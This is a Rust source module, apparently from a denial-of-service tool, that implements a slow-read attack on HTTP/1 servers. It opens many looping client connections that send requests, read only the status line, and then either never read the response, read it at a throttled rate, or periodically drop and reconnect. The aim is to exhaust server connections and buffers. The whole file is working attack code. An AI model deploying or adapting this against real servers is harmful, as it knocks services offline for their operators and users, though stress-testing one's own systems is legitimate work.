//! HTTP/1 requests whose answers are not read, or hardly.

use std::{io::Result, sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _, Interest},
    net::TcpStream,
    time::{Instant, sleep, sleep_until, timeout_at},
};

use super::{
    Attack, PAUSE,
    connection::{Line, status},
    tally::Counters,
};

/// Bytes of an answer that are read for its status.
const STATUS_BYTES: usize = 12;
/// How long a client waits that gives up by itself.
const RENEWAL: Duration = Duration::from_secs(15);
/// How soon a client begins to wait for its answer.
const FIRST_BYTE_LIMIT: Duration = Duration::from_mins(2);

/// How much of an answer is read.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Reading {
    /// Its status, and no more.
    Nothing,
    /// The same; every other client gives up after a while, and asks anew.
    NothingForLong,
    /// So many bytes per second.
    Rate(usize),
}

impl Attack {
    /// Sends in `count` clients. The first sends the first of `requests` over HTTP/1, the second
    /// the second, and so on in turn, and none reads its answer any faster than it is told.
    pub fn unread(&self, count: usize, requests: &Arc<Vec<Vec<u8>>>, reading: Reading) {
        self.send_in(count, |number, line| come_again(number, line, Arc::clone(requests), reading));
    }
}

async fn come_again(number: usize, line: Arc<Line>, requests: Arc<Vec<Vec<u8>>>, reading: Reading) {
    let request = &requests[number % requests.len()];
    let gives_up = reading == Reading::NothingForLong && number % 2 == 1;
    let renewal = gives_up.then_some(RENEWAL);
    loop {
        if let Ok(stream) = line.connect(number).await {
            match ask(stream, request, reading, renewal, &line).await {
                Ok(Ended::ByClient) => continue,
                Ok(Ended::ByServer) | Err(_) => Counters::add(&line.counters.closed),
            }
        }
        sleep(PAUSE).await;
    }
}

enum Ended {
    ByClient,
    ByServer,
}

async fn ask(
    mut stream: TcpStream,
    request: &[u8],
    reading: Reading,
    renewal: Option<Duration>,
    line: &Line,
) -> Result<Ended> {
    let mut first = [0; STATUS_BYTES];
    if !send(&mut stream, request, &mut first).await? {
        return Ok(Ended::ByServer);
    }
    let status = status(&first).unwrap_or(0);
    line.counters.status(status);
    if status >= 400 {
        return Ok(Ended::ByServer);
    }
    match (reading, renewal) {
        (Reading::Rate(bytes), _) => read_slowly(&mut stream, bytes).await,
        (_, None) => broken(&stream).await,
        (_, Some(time)) => {
            let broken = timeout_at(Instant::now() + time, broken(&stream)).await;
            broken.unwrap_or(Ok(Ended::ByClient))
        }
    }
}

/// Sends the request, and reads `first` bytes of the answer, which may come before all was sent;
/// whether they came.
async fn send(stream: &mut TcpStream, request: &[u8], first: &mut [u8]) -> Result<bool> {
    let (mut reading, mut writing) = stream.split();
    let read = timeout_at(Instant::now() + FIRST_BYTE_LIMIT, reading.read_exact(first));
    let write = writing.write_all(request);
    let (mut read, mut write) = (std::pin::pin!(read), std::pin::pin!(write));
    tokio::select! {
        read = &mut read => return Ok(matches!(read, Ok(Ok(_)))),
        // What was refused early is read, if it can be.
        _ = &mut write => {}
    }
    Ok(matches!(read.await, Ok(Ok(_))))
}

/// Ends when the server breaks the connection off. One that it only closes looks open to who does
/// not read.
async fn broken(stream: &TcpStream) -> Result<Ended> {
    stream.ready(Interest::ERROR).await?;
    Ok(Ended::ByServer)
}

async fn read_slowly(stream: &mut TcpStream, bytes_per_second: usize) -> Result<Ended> {
    let mut buffer = vec![0; bytes_per_second];
    loop {
        let next = Instant::now() + Duration::from_secs(1);
        let mut left = bytes_per_second;
        while left > 0 {
            let count = stream.read(&mut buffer[..left]).await?;
            if count == 0 {
                return Ok(Ended::ByServer);
            }
            left -= count;
        }
        sleep_until(next).await;
    }
}
